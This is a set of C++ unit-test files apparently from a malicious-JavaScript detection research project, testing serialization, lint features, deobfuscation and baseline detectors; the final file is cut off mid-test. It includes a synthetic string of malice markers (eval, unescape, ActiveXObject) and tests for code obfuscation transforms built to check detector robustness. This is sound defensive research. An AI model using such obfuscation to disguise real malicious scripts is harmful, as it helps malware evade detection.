  for (const auto& s : corpus.samples) scripts.push_back(s.source);
  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    const auto ob = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < corpus.samples.size(); ++i) {
      scripts.push_back(ob->obfuscate(corpus.samples[i].source, 7000 + i));
    }
  }
  return scripts;
}

class ArtifactFixture : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    trainer_ = new core::JsRevealer(small_config(2));
    trainer_->train(train_corpus());
    artifact_ = new std::vector<std::uint8_t>(trainer_->save_artifact());
    view_ = new core::ModelView();
    view_->from_buffer(*artifact_);
  }

  static void TearDownTestSuite() {
    delete view_;
    delete artifact_;
    delete trainer_;
    view_ = nullptr;
    artifact_ = nullptr;
    trainer_ = nullptr;
  }

  static core::JsRevealer* trainer_;
  static std::vector<std::uint8_t>* artifact_;
  static core::ModelView* view_;
};

core::JsRevealer* ArtifactFixture::trainer_ = nullptr;
std::vector<std::uint8_t>* ArtifactFixture::artifact_ = nullptr;
core::ModelView* ArtifactFixture::view_ = nullptr;

TEST_F(ArtifactFixture, ArtifactBytesIdenticalAcrossThreadWidths) {
  for (const std::size_t threads : {std::size_t(1), std::size_t(8)}) {
    core::JsRevealer det(small_config(threads));
    det.train(train_corpus());
    EXPECT_EQ(det.save_artifact(), *artifact_) << "threads=" << threads;
  }
}

TEST_F(ArtifactFixture, SaveArtifactIsDeterministic) {
  EXPECT_EQ(trainer_->save_artifact(), *artifact_);
}

TEST_F(ArtifactFixture, VerdictsBitIdenticalOverObfuscatedGrid) {
  const std::vector<std::string> scripts = evaluation_scripts();
  ASSERT_GE(scripts.size(), 1000u);
  const std::vector<int> heap = trainer_->classify_all(scripts);
  const std::vector<int> mapped = view_->classify_all(scripts);
  ASSERT_EQ(heap.size(), mapped.size());
  for (std::size_t i = 0; i < heap.size(); ++i) {
    ASSERT_EQ(heap[i], mapped[i]) << "script " << i;
  }
}

TEST_F(ArtifactFixture, ViewBatchMatchesSerialAtEveryWidth) {
  std::vector<std::string> scripts = evaluation_scripts();
  scripts.resize(60);
  std::vector<int> serial;
  serial.reserve(scripts.size());
  for (const auto& s : scripts) serial.push_back(view_->classify(s));
  for (const std::size_t threads :
       {std::size_t(1), std::size_t(2), std::size_t(8)}) {
    core::ModelView view;
    view.from_buffer(*artifact_);
    view.set_threads(threads);
    EXPECT_EQ(view.classify_all(scripts), serial) << "threads=" << threads;
  }
}

TEST_F(ArtifactFixture, FeatureVectorsBitIdentical) {
  const std::vector<std::string> scripts = evaluation_scripts();
  for (std::size_t i = 0; i < scripts.size(); i += 37) {
    EXPECT_EQ(trainer_->featurize(scripts[i]), view_->featurize(scripts[i]))
        << "script " << i;
  }
}

TEST_F(ArtifactFixture, MapFileMatchesFromBuffer) {
  const std::string path = "/tmp/jsrev_artifact_test.jsrm";
  trainer_->save_artifact_file(path);
  core::ModelView mapped;
  mapped.map_file(path);
  EXPECT_EQ(mapped.feature_count(), view_->feature_count());
  EXPECT_EQ(mapped.vocab_size(), view_->vocab_size());
  const std::vector<std::string> scripts = evaluation_scripts();
  for (std::size_t i = 0; i < scripts.size(); i += 101) {
    EXPECT_EQ(mapped.classify(scripts[i]), view_->classify(scripts[i]));
  }
  // Trusted warm open: skipping the checksum pass must not change behavior.
  core::ModelView trusted;
  trusted.map_file(path, /*verify_checksums=*/false);
  EXPECT_EQ(trusted.classify(scripts[0]), view_->classify(scripts[0]));
}

TEST_F(ArtifactFixture, InfoReportsValidatedSections) {
  const core::ArtifactInfo info = view_->info();
  EXPECT_EQ(info.header.version, core::fmt::kFormatVersion);
  EXPECT_EQ(info.header.file_size, artifact_->size());
  EXPECT_EQ(info.sections.size(), std::size_t(core::fmt::kSectionCount));
  for (const core::ArtifactSectionInfo& s : info.sections) {
    EXPECT_TRUE(s.checksum_ok) << s.name;
    EXPECT_EQ(s.rec.offset % core::fmt::kSectionAlign, 0u) << s.name;
  }
}

TEST_F(ArtifactFixture, CentralPathParity) {
  const auto report = trainer_->feature_report(10);
  const std::uint32_t feature_dim = view_->info().header.feature_dim;
  for (const auto& entry : report) {
    const auto f = static_cast<std::uint32_t>(entry.feature_index);
    if (f >= feature_dim) continue;  // lint features have no central path
    EXPECT_EQ(view_->central_path(f), entry.central_path);
  }
}

TEST_F(ArtifactFixture, MappedVocabProbeTableIsConsistent) {
  const paths::PathVocabView& vocab = view_->vocab();
  ASSERT_GT(vocab.size(), 0u);
  const std::uint32_t stride = std::max<std::uint32_t>(1, vocab.size() / 256);
  for (std::uint32_t id = 0; id < vocab.size(); id += stride) {
    paths::PathContext pc;
    pc.source_value = std::string(vocab.source_value(id));
    pc.path = std::string(vocab.path_value(id));
    pc.target_value = std::string(vocab.target_value(id));
    EXPECT_EQ(vocab.lookup(pc), static_cast<std::int32_t>(id));
  }
}

TEST_F(ArtifactFixture, TruncationThrowsModelFormatError) {
  for (const std::size_t cut :
       {std::size_t(0), std::size_t(3), std::size_t(79),
        artifact_->size() / 2, artifact_->size() - 1}) {
    core::ModelView view;
    std::vector<std::uint8_t> bytes(artifact_->begin(),
                                    artifact_->begin() + cut);
    EXPECT_THROW(view.from_buffer(std::move(bytes)), ser::ModelFormatError)
        << "cut=" << cut;
  }
}

TEST_F(ArtifactFixture, PayloadBitFlipThrowsModelFormatError) {
  // Flip a byte inside each section's payload: the per-section checksum must
  // catch every one of them.
  const core::ArtifactInfo info = view_->info();
  for (const core::ArtifactSectionInfo& s : info.sections) {
    if (s.rec.size == 0) continue;
    std::vector<std::uint8_t> bytes = *artifact_;
    bytes[s.rec.offset + s.rec.size / 2] ^= 0x40;
    core::ModelView view;
    EXPECT_THROW(view.from_buffer(std::move(bytes)), ser::ModelFormatError)
        << s.name;
  }
}

TEST_F(ArtifactFixture, CorruptHeaderThrowsModelFormatError) {
  {
    std::vector<std::uint8_t> bytes = *artifact_;
    bytes[0] = 'X';  // magic
    core::ModelView view;
    EXPECT_THROW(view.from_buffer(std::move(bytes)), ser::ModelFormatError);
  }
  {
    std::vector<std::uint8_t> bytes = *artifact_;
    bytes[4] = 99;  // version
    core::ModelView view;
    EXPECT_THROW(view.from_buffer(std::move(bytes)), ser::ModelFormatError);
  }
}

TEST_F(ArtifactFixture, FormatErrorCarriesSectionAndOffset) {
  std::vector<std::uint8_t> bytes = *artifact_;
  const core::ArtifactInfo info = view_->info();
  const auto& first = info.sections.front();
  bytes[first.rec.offset] ^= 0x01;
  core::ModelView view;
  try {
    view.from_buffer(std::move(bytes));
    FAIL() << "corrupt artifact attached";
  } catch (const ser::ModelFormatError& e) {
    EXPECT_EQ(e.section(), first.name);
    EXPECT_NE(std::string(e.what()).find(first.name), std::string::npos);
  }
}

TEST_F(ArtifactFixture, LegacyStreamConvertsToIdenticalArtifact) {
  std::stringstream legacy;
  trainer_->save_legacy(legacy);
  core::JsRevealer restored(core::Config{});
  restored.load(legacy);
  EXPECT_EQ(restored.save_artifact(), *artifact_);
}

TEST_F(ArtifactFixture, V3StreamConvertsToIdenticalArtifact) {
  std::stringstream stream;
  trainer_->save(stream);
  core::JsRevealer restored(core::Config{});
  restored.load(stream);
  EXPECT_EQ(restored.save_artifact(), *artifact_);
}

TEST(ModelViewApi, UnloadedViewIsSafe) {
  core::ModelView view;
  EXPECT_FALSE(view.loaded());
  EXPECT_EQ(view.classify("var x = 1;"), 1);  // fail-closed convention
}

TEST(ModelViewApi, TrainThrowsLogicError) {
  core::ModelView view;
  EXPECT_THROW(view.train(train_corpus()), std::logic_error);
}

TEST(ModelViewApi, UntrainedSaveArtifactThrows) {
  core::JsRevealer det(core::Config{});
  EXPECT_THROW(det.save_artifact(), std::logic_error);
}

TEST(ModelViewApi, MissingFileThrows) {
  core::ModelView view;
  EXPECT_THROW(view.map_file("/tmp/jsrev_no_such_artifact.jsrm"),
               std::exception);
}

}  // namespace
}  // namespace jsrev
