// Tests for the lint-feature detector integration (Config::lint_features):
// the flag off must reproduce the legacy pipeline bit-for-bit (features,
// predictions, and serialized model bytes), the flag on must change only the
// appended feature tail, and both variants must round-trip serialization.
#include <gtest/gtest.h>

#include <sstream>

#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "lint/linter.h"
#include "util/rng.h"

namespace jsrev {
namespace {

class LintFeatureFixture : public ::testing::Test {
 protected:
  static core::Config base_config(bool lint_features) {
    core::Config cfg;
    cfg.embed_epochs = 6;
    cfg.cluster_sample_per_class = 400;
    cfg.lint_features = lint_features;
    return cfg;
  }

  static void SetUpTestSuite() {
    dataset::GeneratorConfig gc;
    gc.seed = 55;
    gc.benign_count = 60;
    gc.malicious_count = 60;
    corpus_ = new dataset::Corpus(dataset::generate_corpus(gc));
    Rng rng(56);
    split_ = new dataset::Split(dataset::split_corpus(*corpus_, 42, 42, rng));

    plain_ = new core::JsRevealer(base_config(false));
    plain_->train(split_->train);
    linted_ = new core::JsRevealer(base_config(true));
    linted_->train(split_->train);
  }

  static void TearDownTestSuite() {
    delete linted_;
    delete plain_;
    delete split_;
    delete corpus_;
    linted_ = nullptr;
    plain_ = nullptr;
    split_ = nullptr;
    corpus_ = nullptr;
  }

  static dataset::Corpus* corpus_;
  static dataset::Split* split_;
  static core::JsRevealer* plain_;
  static core::JsRevealer* linted_;
};

dataset::Corpus* LintFeatureFixture::corpus_ = nullptr;
dataset::Split* LintFeatureFixture::split_ = nullptr;
core::JsRevealer* LintFeatureFixture::plain_ = nullptr;
core::JsRevealer* LintFeatureFixture::linted_ = nullptr;

TEST_F(LintFeatureFixture, FlagWidensFeatureVectorByLintDim) {
  EXPECT_EQ(plain_->lint_feature_count(), 0u);
  EXPECT_EQ(linted_->lint_feature_count(), lint::kLintFeatureDim);
  EXPECT_EQ(linted_->feature_count(),
            plain_->feature_count() + lint::kLintFeatureDim);
  const std::string& src = split_->test.samples[0].source;
  EXPECT_EQ(plain_->featurize(src).size(), plain_->feature_count());
  EXPECT_EQ(linted_->featurize(src).size(), linted_->feature_count());
}

TEST_F(LintFeatureFixture, FlagOffReproducesLegacyModelBytes) {
  // A second train with the identical flag-off config is bit-identical —
  // the lint subsystem being compiled in must not perturb the default
  // pipeline in any way.
  core::JsRevealer again(base_config(false));
  again.train(split_->train);
  std::stringstream a, b;
  plain_->save(a);
  again.save(b);
  EXPECT_EQ(a.str(), b.str());
}

TEST_F(LintFeatureFixture, FlagOnChangesOnlyTheFeatureTail) {
  // The cluster pipeline (vocab, embedding, centroids, scaler head) is
  // untouched by the flag, so the leading feature_dim entries of the raw
  // (pre-scaling differences aside) vectors must coincide. Compare through
  // the public featurize(): scaling is per-column min-max fitted on the
  // same training matrix columns, so the shared head columns match exactly.
  const std::size_t head = plain_->feature_count();
  for (std::size_t i = 0; i < split_->test.samples.size(); i += 9) {
    const std::string& src = split_->test.samples[i].source;
    const std::vector<double> fp = plain_->featurize(src);
    const std::vector<double> fl = linted_->featurize(src);
    ASSERT_EQ(fl.size(), head + lint::kLintFeatureDim);
    for (std::size_t c = 0; c < head; ++c) {
      EXPECT_DOUBLE_EQ(fp[c], fl[c]) << "head column " << c << " diverged";
    }
  }
}

TEST_F(LintFeatureFixture, LintTailReactsToMaliceMarkers) {
  // A script dense in malice indicators must produce a nonzero lint tail.
  const std::string hot =
      "var p = unescape(\"%61%6c\"); eval(p); "
      "setTimeout(\"go()\", 9); q = new ActiveXObject(\"Sh\");";
  const std::vector<double> f = linted_->featurize(hot);
  double tail = 0.0;
  for (std::size_t c = plain_->feature_count(); c < f.size(); ++c) {
    tail += f[c];
  }
  EXPECT_GT(tail, 0.0);
}

TEST_F(LintFeatureFixture, LintModelRoundTripsSerialization) {
  std::stringstream buffer;
  linted_->save(buffer);
  core::JsRevealer restored(core::Config{});  // flag restored from the file
  restored.load(buffer);
  EXPECT_EQ(restored.lint_feature_count(), lint::kLintFeatureDim);
  EXPECT_EQ(restored.feature_count(), linted_->feature_count());
  for (std::size_t i = 0; i < split_->test.samples.size(); i += 5) {
    const std::string& src = split_->test.samples[i].source;
    EXPECT_EQ(restored.featurize(src), linted_->featurize(src));
    EXPECT_EQ(restored.classify(src), linted_->classify(src));
  }
}

TEST_F(LintFeatureFixture, FlagOffModelLoadsAsVersionOne) {
  // Flag-off models keep the version-1 header so older readers stay
  // compatible; loading restores lint_dim = 0.
  std::stringstream buffer;
  plain_->save(buffer);
  core::JsRevealer restored(base_config(true));  // flag overridden by file
  restored.load(buffer);
  EXPECT_EQ(restored.lint_feature_count(), 0u);
  EXPECT_EQ(restored.feature_count(), plain_->feature_count());
}

TEST_F(LintFeatureFixture, LintedPredictionsRemainDeterministicAcrossWidths) {
  std::vector<std::string> sources;
  for (const auto& s : split_->test.samples) sources.push_back(s.source);
  core::Config serial_cfg = base_config(true);
  serial_cfg.threads = 1;
  core::JsRevealer serial(serial_cfg);
  serial.train(split_->train);
  core::Config wide_cfg = base_config(true);
  wide_cfg.threads = 4;
  core::JsRevealer wide(wide_cfg);
  wide.train(split_->train);
  EXPECT_EQ(serial.classify_all(sources), wide.classify_all(sources));
}

}  // namespace
}  // namespace jsrev
