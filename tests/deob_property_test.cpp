// Property tests for the deobfuscation pipeline over the generator corpus:
//
//   * Convergence: for every generator script s and every obfuscator model,
//     deob(obf(s)) parses and its normalized tree equals deob(s)'s
//     (ast_fingerprint identity). This is the normalizer design target —
//     both sides reduce to one canonical form.
//   * Idempotence: deob(deob(x)) == deob(x) for plain and obfuscated inputs.
//   * Verdict identity: a JsRevealer trained and classifying behind
//     Config::deobfuscate assigns obf(s) the same verdict as s, at thread
//     widths 1, 2 and 8 (the per-script normalize must not break the
//     bit-identical-parallelism guarantee).
#include <gtest/gtest.h>

#include <memory>
#include <string>
#include <vector>

#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "deob/deob.h"
#include "js/ast_compare.h"
#include "js/parser.h"
#include "obfuscators/obfuscator.h"
#include "util/rng.h"

namespace {

using jsrev::deob::deobfuscate_source;
using jsrev::deob::SourceResult;

constexpr std::size_t kScriptsPerClass = 100;  // 200 scripts total

/// Clean (un-pre-obfuscated) generator scripts: the property compares each
/// script against its obfuscated form, so the baseline must be the plain
/// program.
const std::vector<std::string>& scripts() {
  static const std::vector<std::string> cached = [] {
    jsrev::dataset::GeneratorConfig gc;
    gc.seed = 20230817;
    gc.benign_count = kScriptsPerClass;
    gc.malicious_count = kScriptsPerClass;
    gc.apply_wild_obfuscation = false;
    std::vector<std::string> out;
    for (const auto& s : jsrev::dataset::generate_corpus(gc).samples) {
      out.push_back(s.source);
    }
    return out;
  }();
  return cached;
}

struct ObfCase {
  jsrev::obf::ObfuscatorKind kind;
  std::string name;
};

std::vector<ObfCase> obf_cases() {
  std::vector<ObfCase> cases;
  for (const jsrev::obf::ObfuscatorKind kind : jsrev::obf::kAllObfuscators) {
    cases.push_back({kind, jsrev::obf::obfuscator_kind_name(kind)});
  }
  return cases;
}

TEST(DeobProperty, ObfuscatedScriptsConvergeToPlainNormalForm) {
  const auto& corpus = scripts();
  for (const ObfCase& oc : obf_cases()) {
    const auto obfuscator = jsrev::obf::make_obfuscator(oc.kind);
    int mismatches = 0;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      const std::string& plain = corpus[i];
      const std::string obf =
          obfuscator->obfuscate(plain, 0x9e3779b9u + static_cast<std::uint32_t>(i));

      const SourceResult d_plain = deobfuscate_source(plain);
      const SourceResult d_obf = deobfuscate_source(obf);
      ASSERT_TRUE(d_plain.parse_ok) << oc.name << " script " << i;
      ASSERT_TRUE(d_obf.parse_ok)
          << oc.name << " script " << i << ": deob(obf(s)) must parse";
      EXPECT_TRUE(d_plain.pipeline.reached_fixpoint)
          << oc.name << " script " << i;
      EXPECT_TRUE(d_obf.pipeline.reached_fixpoint)
          << oc.name << " script " << i;
      if (d_plain.fingerprint_after != d_obf.fingerprint_after) {
        ++mismatches;
        EXPECT_EQ(d_plain.fingerprint_after, d_obf.fingerprint_after)
            << oc.name << " script " << i
            << "\n--- plain normal form ---\n" << d_plain.source
            << "\n--- obf normal form ---\n" << d_obf.source;
      }
      if (mismatches >= 3) break;  // keep failure output readable
    }
    EXPECT_EQ(mismatches, 0) << oc.name;
  }
}

TEST(DeobProperty, PipelineIsIdempotent) {
  const auto& corpus = scripts();
  const auto obfuscator =
      jsrev::obf::make_obfuscator(jsrev::obf::ObfuscatorKind::kJavaScriptObfuscator);
  for (std::size_t i = 0; i < corpus.size(); i += 7) {
    for (const bool obfuscate : {false, true}) {
      const std::string input =
          obfuscate
              ? obfuscator->obfuscate(corpus[i],
                                      static_cast<std::uint32_t>(i) * 31u + 5u)
              : corpus[i];
      const SourceResult once = deobfuscate_source(input);
      ASSERT_TRUE(once.parse_ok) << "script " << i;
      const SourceResult twice = deobfuscate_source(once.source);
      ASSERT_TRUE(twice.parse_ok) << "script " << i;
      EXPECT_EQ(once.fingerprint_after, twice.fingerprint_after)
          << "script " << i << " obf=" << obfuscate << "\n--- once ---\n"
          << once.source << "\n--- twice ---\n" << twice.source;
      EXPECT_EQ(twice.pipeline.total_changes, 0)
          << "script " << i << " obf=" << obfuscate
          << ": second run must be a no-op fixpoint\n--- once ---\n"
          << once.source << "\n--- twice ---\n" << twice.source;
    }
  }
}

TEST(DeobProperty, VerdictIdentityUnderObfuscationAcrossThreadWidths) {
  // Small-but-trainable pipeline (script_analysis_test idiom), deob on.
  jsrev::dataset::GeneratorConfig gc;
  gc.seed = 77;
  gc.benign_count = 60;
  gc.malicious_count = 60;
  const jsrev::dataset::Corpus train = jsrev::dataset::generate_corpus(gc);

  const auto& corpus = scripts();
  std::vector<int> reference;  // width-1 verdicts on the plain scripts

  for (const std::size_t threads : {std::size_t{1}, std::size_t{2},
                                    std::size_t{8}}) {
    jsrev::core::Config cfg;
    cfg.threads = threads;
    cfg.embed_epochs = 4;
    cfg.embedding_dim = 32;
    cfg.deobfuscate = true;
    jsrev::core::JsRevealer detector(cfg);
    detector.train(train);

    std::vector<int> plain_verdicts(corpus.size());
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      plain_verdicts[i] = detector.classify(corpus[i]);
    }
    if (reference.empty()) {
      reference = plain_verdicts;
    } else {
      EXPECT_EQ(reference, plain_verdicts)
          << "verdicts must be width-invariant (threads=" << threads << ")";
    }

    for (const ObfCase& oc : obf_cases()) {
      const auto obfuscator = jsrev::obf::make_obfuscator(oc.kind);
      int mismatches = 0;
      for (std::size_t i = 0; i < corpus.size(); ++i) {
        const std::string obf = obfuscator->obfuscate(
            corpus[i], 0x9e3779b9u + static_cast<std::uint32_t>(i));
        const int v = detector.classify(obf);
        if (v != plain_verdicts[i]) ++mismatches;
        EXPECT_EQ(v, plain_verdicts[i])
            << oc.name << " script " << i << " threads=" << threads;
        if (mismatches >= 3) break;
      }
      EXPECT_EQ(mismatches, 0) << oc.name << " threads=" << threads;
    }
  }
}

}  // namespace
