#include <gtest/gtest.h>

#include <memory>

#include "baselines/cujo.h"
#include "baselines/detector.h"
#include "baselines/jast.h"
#include "baselines/jstap.h"
#include "baselines/ngram.h"
#include "baselines/zozzle.h"
#include "dataset/generator.h"
#include "util/rng.h"

namespace jsrev::detect {
namespace {

dataset::Split small_split(std::uint64_t seed) {
  dataset::GeneratorConfig cfg;
  cfg.seed = seed;
  cfg.benign_count = 80;
  cfg.malicious_count = 80;
  const dataset::Corpus corpus = dataset::generate_corpus(cfg);
  Rng rng(seed + 1);
  return dataset::split_corpus(corpus, 55, 55, rng);
}

TEST(NgramVocab, CountFreezeAccumulate) {
  NgramVocab vocab(2, 100);
  vocab.count({"a", "b", "c"});        // ab, bc
  vocab.count({"a", "b", "d"});        // ab, bd
  vocab.freeze(/*min_count=*/2);
  EXPECT_EQ(vocab.dims(), 1u);  // only "ab" reaches count 2
  std::vector<double> f(vocab.dims(), 0.0);
  vocab.accumulate({"a", "b", "x", "a", "b"}, f);
  EXPECT_DOUBLE_EQ(f[0], 2.0);
}

TEST(NgramVocab, UnknownGramsDropped) {
  NgramVocab vocab(2, 100);
  vocab.count({"a", "b"});
  vocab.count({"a", "b"});
  vocab.freeze(2);
  std::vector<double> f(vocab.dims(), 0.0);
  vocab.accumulate({"q", "r", "s"}, f);
  for (const double v : f) EXPECT_DOUBLE_EQ(v, 0.0);
}

TEST(NgramVocab, MaxFeaturesCap) {
  NgramVocab vocab(1, 3);
  vocab.count({"a", "a", "b", "b", "c", "c", "d", "d", "e", "e"});
  vocab.freeze(2);
  EXPECT_EQ(vocab.dims(), 3u);
}

TEST(NgramHasher, AccumulatesIntoFixedDims) {
  NgramHasher hasher(3, 16);
  std::vector<double> f(16, 0.0);
  hasher.accumulate({"x", "y", "z", "w"}, f);  // 2 trigrams
  double total = 0;
  for (const double v : f) total += v;
  EXPECT_DOUBLE_EQ(total, 2.0);
}

TEST(NgramHasher, TooShortSequenceIsNoop) {
  NgramHasher hasher(4, 16);
  std::vector<double> f(16, 0.0);
  hasher.accumulate({"x", "y"}, f);
  for (const double v : f) EXPECT_DOUBLE_EQ(v, 0.0);
}

TEST(L2Normalize, UnitNorm) {
  std::vector<double> v = {3.0, 4.0};
  l2_normalize(v);
  EXPECT_NEAR(v[0], 0.6, 1e-12);
  EXPECT_NEAR(v[1], 0.8, 1e-12);
}

TEST(L2Normalize, ZeroVectorUntouched) {
  std::vector<double> v = {0.0, 0.0};
  l2_normalize(v);
  EXPECT_DOUBLE_EQ(v[0], 0.0);
}

TEST(Cujo, TokenNormalization) {
  const auto toks = Cujo::normalize_tokens(
      "var count = 42; f(\"short\", /re/);");
  // identifiers -> ID, numbers -> NUM, strings bucketed, regex -> REGEX.
  int id = 0, num = 0, str = 0, regex = 0;
  for (const auto& t : toks) {
    id += t == "ID";
    num += t == "NUM";
    str += t == "STR.short";
    regex += t == "REGEX";
  }
  EXPECT_EQ(id, 2);
  EXPECT_EQ(num, 1);
  EXPECT_EQ(str, 1);
  EXPECT_EQ(regex, 1);
}

TEST(Cujo, LongStringBucket) {
  const auto toks = Cujo::normalize_tokens(
      "var s = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaa\";");
  bool found = false;
  for (const auto& t : toks) found = found || t == "STR.long";
  EXPECT_TRUE(found);
}

TEST(Zozzle, ContextFeatures) {
  const auto feats = Zozzle::context_features(
      "function f() { if (x) { evil(); } } top();");
  bool in_if = false, in_script = false;
  for (const auto& f : feats) {
    if (f.rfind("if:", 0) == 0) in_if = true;
    if (f.rfind("script:", 0) == 0) in_script = true;
  }
  EXPECT_TRUE(in_if);
  EXPECT_TRUE(in_script);
}

TEST(Jast, UnitSequencePreorder) {
  const auto units = Jast::unit_sequence("var x = 1;");
  ASSERT_GE(units.size(), 4u);
  EXPECT_EQ(units[0], "Program");
  EXPECT_EQ(units[1], "VariableDeclaration");
}

TEST(Jstap, WalksIncludeEdgeAnnotations) {
  const auto walks = Jstap::pdg_walks("var a = 1; use(a);");
  ASSERT_FALSE(walks.empty());
  bool has_data_edge = false;
  for (const auto& w : walks) {
    for (const auto& tok : w) {
      if (tok.rfind("D:", 0) == 0) has_data_edge = true;
    }
  }
  EXPECT_TRUE(has_data_edge);
}

TEST(Jstap, ControlEdgesForBranches) {
  const auto walks = Jstap::pdg_walks("if (x) { a(); }");
  bool has_control_edge = false;
  for (const auto& w : walks) {
    for (const auto& tok : w) {
      if (tok.rfind("C:", 0) == 0) has_control_edge = true;
    }
  }
  EXPECT_TRUE(has_control_edge);
}

class BaselineSweep : public ::testing::TestWithParam<BaselineKind> {};

TEST_P(BaselineSweep, TrainsAndSeparatesCleanCorpus) {
  const dataset::Split split = small_split(42);
  auto detector = make_baseline(GetParam(), 1);
  detector->train(split.train);
  const ml::Metrics m = detector->evaluate(split.test);
  // All four baselines are strong on unobfuscated data (paper Table V row 1).
  EXPECT_GE(m.accuracy, 0.70) << detector->name();
}

TEST_P(BaselineSweep, UnanalyzableInputClassifiedMalicious) {
  const dataset::Split split = small_split(43);
  auto detector = make_baseline(GetParam(), 1);
  detector->train(split.train);
  // An unterminated string fails even lexing, so every detector's frontend
  // (including CUJO's purely lexical one) rejects it.
  EXPECT_EQ(detector->classify("var s = \"unterminated"), 1)
      << detector->name();
}

TEST_P(BaselineSweep, NameMatchesKind) {
  auto detector = make_baseline(GetParam(), 1);
  EXPECT_EQ(detector->name(), baseline_kind_name(GetParam()));
}

INSTANTIATE_TEST_SUITE_P(AllBaselines, BaselineSweep,
                         ::testing::Values(BaselineKind::kCujo,
                                           BaselineKind::kZozzle,
                                           BaselineKind::kJast,
                                           BaselineKind::kJstap),
                         [](const ::testing::TestParamInfo<BaselineKind>& i) {
                           return baseline_kind_name(i.param);
                         });

}  // namespace
}  // namespace jsrev::detect
