// Semantic-preservation checks for the obfuscating transforms, via a small
// constant-expression evaluator: transforms that claim value preservation
// (number encoding, string splitting/encoding, string-array extraction with
// its decoder) must produce expressions that evaluate back to the original
// constants.
#include <gtest/gtest.h>

#include <optional>
#include <string>

#include "js/parser.h"
#include "js/printer.h"
#include "js/visitor.h"
#include "obfuscators/transforms.h"
#include "util/base64.h"
#include "util/rng.h"

namespace jsrev::obf {
namespace {

using js::LiteralType;
using js::Node;
using js::NodeKind;

/// Evaluates constant numeric expressions (+,-,*,/ on literals).
std::optional<double> eval_number(const Node* n) {
  if (n->kind == NodeKind::kLiteral && n->lit == LiteralType::kNumber) {
    return n->num;
  }
  if (n->kind == NodeKind::kBinaryExpression) {
    const auto lhs = eval_number(n->children[0]);
    const auto rhs = eval_number(n->children[1]);
    if (!lhs || !rhs) return std::nullopt;
    if (n->str == "+") return *lhs + *rhs;
    if (n->str == "-") return *lhs - *rhs;
    if (n->str == "*") return *lhs * *rhs;
    if (n->str == "/" && *rhs != 0) return *lhs / *rhs;
  }
  return std::nullopt;
}

/// Evaluates constant string expressions: literals, `+` concatenation, and
/// String.fromCharCode(...) with constant arguments.
std::optional<std::string> eval_string(const Node* n) {
  if (n->kind == NodeKind::kLiteral && n->lit == LiteralType::kString) {
    return n->str;
  }
  if (n->kind == NodeKind::kBinaryExpression && n->str == "+") {
    const auto lhs = eval_string(n->children[0]);
    const auto rhs = eval_string(n->children[1]);
    if (!lhs || !rhs) return std::nullopt;
    return *lhs + *rhs;
  }
  if (n->kind == NodeKind::kCallExpression &&
      n->children[0]->kind == NodeKind::kMemberExpression) {
    const Node* callee = n->children[0];
    if (callee->children[0]->kind == NodeKind::kIdentifier &&
        callee->children[0]->str == "String" &&
        callee->children[1]->str == "fromCharCode") {
      std::string out;
      for (std::size_t i = 1; i < n->children.size(); ++i) {
        const auto code = eval_number(n->children[i]);
        if (!code) return std::nullopt;
        out += static_cast<char>(static_cast<int>(*code));
      }
      return out;
    }
  }
  return std::nullopt;
}

/// The initializer expression of `var <anything> = <expr>;` statement #idx.
const Node* nth_var_init(const Node* program, std::size_t idx) {
  std::size_t seen = 0;
  const Node* hit = nullptr;
  js::walk(program, [&](const Node* n) {
    if (hit != nullptr) return false;
    if (n->kind == NodeKind::kVariableDeclarator && n->children.size() > 1 &&
        n->children[1] != nullptr) {
      if (seen == idx) {
        hit = n->children[1];
        return false;
      }
      ++seen;
    }
    return true;
  });
  return hit;
}

TEST(Semantics, EncodeNumbersPreservesValues) {
  Rng rng(1);
  for (const double value : {0.0, 1.0, 7.0, 42.0, 999.0, 123456.0}) {
    js::Ast ast = js::parse("var n = " + std::to_string(static_cast<long long>(value)) + ";");
    encode_numbers(ast, rng, 1.0);
    const Node* init = nth_var_init(ast.root, 0);
    ASSERT_NE(init, nullptr);
    const auto result = eval_number(init);
    ASSERT_TRUE(result.has_value()) << value;
    EXPECT_DOUBLE_EQ(*result, value);
  }
}

TEST(Semantics, EncodeStringsPreservesValues) {
  Rng rng(2);
  for (const std::string value :
       {"hi", "hello world", "a longer string with words",
        "punctuation: <>!@#$%", "0123456789abcdef0123456789abcdef"}) {
    js::Ast ast = js::parse("var s = \"" + value + "\";");
    encode_strings(ast, rng, /*min_len=*/1, /*charcode_p=*/0.7);
    const Node* init = nth_var_init(ast.root, 0);
    ASSERT_NE(init, nullptr);
    const auto result = eval_string(init);
    ASSERT_TRUE(result.has_value()) << value;
    EXPECT_EQ(*result, value);
  }
}

TEST(Semantics, EscapeEncodeDecodesBack) {
  Rng rng(3);
  const std::string value = "decode-me-123";
  js::Ast ast = js::parse("var s = \"" + value + "\";");
  escape_encode_strings(ast, rng, 1, 1.0);
  // Init is unescape("%..%.."): decode the escape sequence manually.
  const Node* init = nth_var_init(ast.root, 0);
  ASSERT_NE(init, nullptr);
  ASSERT_EQ(init->kind, NodeKind::kCallExpression);
  ASSERT_EQ(init->children[0]->str, "unescape");
  const std::string& encoded = init->children[1]->str;
  std::string decoded;
  for (std::size_t i = 0; i + 2 < encoded.size(); i += 3) {
    ASSERT_EQ(encoded[i], '%');
    decoded += static_cast<char>(
        std::stoi(encoded.substr(i + 1, 2), nullptr, 16));
  }
  EXPECT_EQ(decoded, value);
}

TEST(Semantics, StringArrayTableHoldsOriginals) {
  Rng rng(4);
  js::Ast ast = js::parse(
      "var a = \"alpha\"; var b = \"beta\"; use(\"alpha\", \"gamma\");");
  extract_string_array(ast, rng, /*encode=*/false);
  // The first statement is now the table: it must contain exactly the
  // distinct original strings.
  const Node* table = nth_var_init(ast.root, 0);
  ASSERT_NE(table, nullptr);
  ASSERT_EQ(table->kind, NodeKind::kArrayExpression);
  std::multiset<std::string> values;
  for (const Node* el : table->children) values.insert(el->str);
  EXPECT_EQ(values.count("alpha"), 1u);  // deduplicated
  EXPECT_EQ(values.count("beta"), 1u);
  EXPECT_EQ(values.count("gamma"), 1u);
}

TEST(Semantics, EncodedStringArrayRoundTripsThroughBase64) {
  Rng rng(5);
  js::Ast ast = js::parse("var a = \"round-trip me\";");
  extract_string_array(ast, rng, /*encode=*/true);
